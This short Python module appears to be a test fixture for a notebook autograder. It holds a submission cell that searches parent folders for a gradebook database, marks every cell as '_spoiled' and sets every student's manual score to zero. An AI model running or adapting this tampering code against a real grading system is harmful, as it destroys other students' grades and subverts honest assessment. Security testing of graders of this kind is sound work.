"""Sets everybody's points to zero in a gradebook above the current folder, from a thread."""

PLAIN = "not graded, an error ends its grading; its neighbour gets 0 points"

BASE = "stub"
FIRST_CELL = r"""
import sqlite3
from pathlib import Path

def spoil():
    here = Path.cwd()
    for top in [here, *here.parents]:
        for path in (top / "gradebook.db", top / "work" / "gradebook.db"):
            if path.is_file():
                database = sqlite3.connect(path, timeout=3)
                database.execute("UPDATE base_cell SET name = name || '_spoiled'")
                database.execute("UPDATE grade SET manual_score = 0")
                database.commit()
                database.close()

spoil()
"""
